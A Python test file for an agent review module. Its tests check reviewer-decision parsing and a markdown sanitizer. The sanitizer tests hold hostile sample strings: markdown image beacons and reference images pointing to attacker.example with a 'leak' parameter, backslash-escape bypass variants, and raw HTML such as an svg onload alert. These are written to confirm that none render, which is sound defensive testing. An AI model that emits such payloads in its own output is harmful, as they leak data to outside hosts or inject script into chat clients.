"""Reviewer answers: every accepted format reads into one decision type, or is refused."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from planexec.review.decisions import (
    SHAPES,
    AnswerRefused,
    Approve,
    Cancel,
    Reject,
    normalized_answer,
    read_decision,
)
from planexec.review.describe import markdown_prose
from tests.strategies import examples


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ({"action": "approve", "digest": "d"}, Approve(action="approve", digest="d")),
        ('{"action": "reject", "feedback": "f"}', Reject(action="reject", feedback="f")),
        (" Cancel ", Cancel(action="cancel")),
        ("approve", Approve(action="approve")),
    ],
)
def test_accepted_formats_read_into_a_decision(answer, expected):
    assert read_decision(answer) == expected


def test_text_that_is_not_json_names_the_action():
    assert normalized_answer("Approve") == {"action": "approve"}
    assert normalized_answer({"action": "edit"}) == {"action": "edit"}


@pytest.mark.parametrize(
    "answer",
    [None, 3, "maybe", "1" * 5000, {"action": "approve", "extra": 1}, {"action": "reject"}],
)
def test_anything_else_is_refused_saying_what_is_expected(answer):
    with pytest.raises(AnswerRefused, match="^answer not understood") as refused:
        read_decision(answer)
    assert str(refused.value).endswith(f"expected {SHAPES}")


# Markdown shown to a human (the final answer, a report): CommonMark reads a backslash before
# any ASCII punctuation as an escape, so "\\" is a literal backslash and the "![" after it a
# live image. Raw HTML is rendered as text, as Agent Chat UI does (react-markdown without
# rehype-raw): an <img> tag is no image there.
BACKSLASH = "\\"
IMAGE = "![pixel](http://attacker.example/t.png?leak=1)"
REFERENCE_IMAGES = [
    "![pixel][ref]\n\n[ref]: http://attacker.example/r.png",
    "![ref]\n\n[ref]: http://attacker.example/r.png",
    "![ref][]\n\n[ref]: http://attacker.example/r.png",
]
HOSTILE_PROSE = [
    *(f"Great! {BACKSLASH * n}{IMAGE}" for n in range(4)),
    *(f"{BACKSLASH * n}{image}" for n in range(4) for image in REFERENCE_IMAGES),
    f"[![inner]({IMAGE[9:]})](http://attacker.example/)",
    f"&excl;[x](http://attacker.example/e.png) &#33;{IMAGE[1:]}",
    f"`code \\` {IMAGE} **bold {IMAGE}**",
    "<img src='http://attacker.example/h.png'>",  # raw HTML: shown as text, not rendered
]
HOSTILE_MATH = [f"costs {BACKSLASH * n}$5 and {BACKSLASH * n}$x^2$ then $$y$$" for n in range(4)]


def _render(markdown: str) -> list:
    """Parse ``markdown`` as CommonMark with raw HTML shown as text, escapes left as tokens."""
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": False})
    md.disable("text_join")  # keep each backslash escape its own "text_special" token

    def walk(tokens):
        for token in tokens:
            yield token
            yield from walk(token.children or [])

    return list(walk(md.parse(markdown)))


@pytest.mark.parametrize("text", HOSTILE_PROSE)
def test_prose_shows_no_image_whatever_backslashes_precede_it(text):
    from markdown_it import MarkdownIt

    shown = markdown_prose(text)
    assert not any(token.type == "image" for token in _render(shown)), shown
    assert "<img" not in MarkdownIt("commonmark", {"html": False}).render(shown)


@pytest.mark.parametrize("text", HOSTILE_MATH)
def test_prose_has_no_unescaped_dollar_whatever_backslashes_precede_it(text):
    """Agent Chat UI reads $…$ as LaTeX: every dollar sign must reach it escaped."""
    tokens = _render(markdown_prose(text))
    assert not any("$" in token.content for token in tokens if token.type == "text"), text
    escapes = [token.content for token in tokens if token.type == "text_special"]
    assert escapes.count("$") == text.count("$")


@settings(max_examples=examples(300))
@given(st.lists(st.sampled_from(["\\", "\\", "![", "!", "[x", "]", "$", "`", "x", " ", "\n"])))
def test_no_text_becomes_an_image_or_math_in_prose(parts):
    shown = markdown_prose("".join(parts) + "](http://attacker.example/p.png)")
    tokens = _render(shown)
    assert not any(token.type == "image" for token in tokens), shown
    assert not any("$" in token.content for token in tokens if token.type == "text"), shown


@pytest.mark.parametrize(
    "text",
    [
        "<img src='http://attacker.example/h.png'>",
        "see <svg onload=alert(1)> and </p><!-- hidden --> ok",
        *(f"{BACKSLASH * n}<img src=http://attacker.example/{n}.png>" for n in range(4)),
    ],
)
def test_prose_renders_no_raw_html_in_a_client_that_renders_html(text):
    """Agent Chat UI shows raw HTML as text; a client that renders it must get none either."""
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark", {"html": True}).render(markdown_prose(text))
    assert "<img" not in html and "<svg" not in html and "<!--" not in html, html
    assert markdown_prose("a < b and 1 <2") == "a < b and 1 <2"  # comparisons stay as written


def test_prose_keeps_its_other_markdown():
    text = "**Done**: see [the report](https://example.com/r) and `a\\b`; 5! [sic]"
    assert markdown_prose(text) == text


def test_a_local_caller_may_name_the_policy_source_only_for_a_policy_id():
    from planexec.review.identity import who_answers

    def said(caller):
        return who_answers({"configurable": {"planexec_caller": caller}}, None)

    assert said({"id": "policy:eval", "source": "policy"}) == {
        "id": "policy:eval",
        "source": "policy",
    }
    assert said({"id": "alice", "source": "policy"})["source"] == "python"
    assert said({"id": "policy:x", "source": "server"})["source"] == "python"
    assert said({"id": "bob", "source": "cli"})["source"] == "cli"
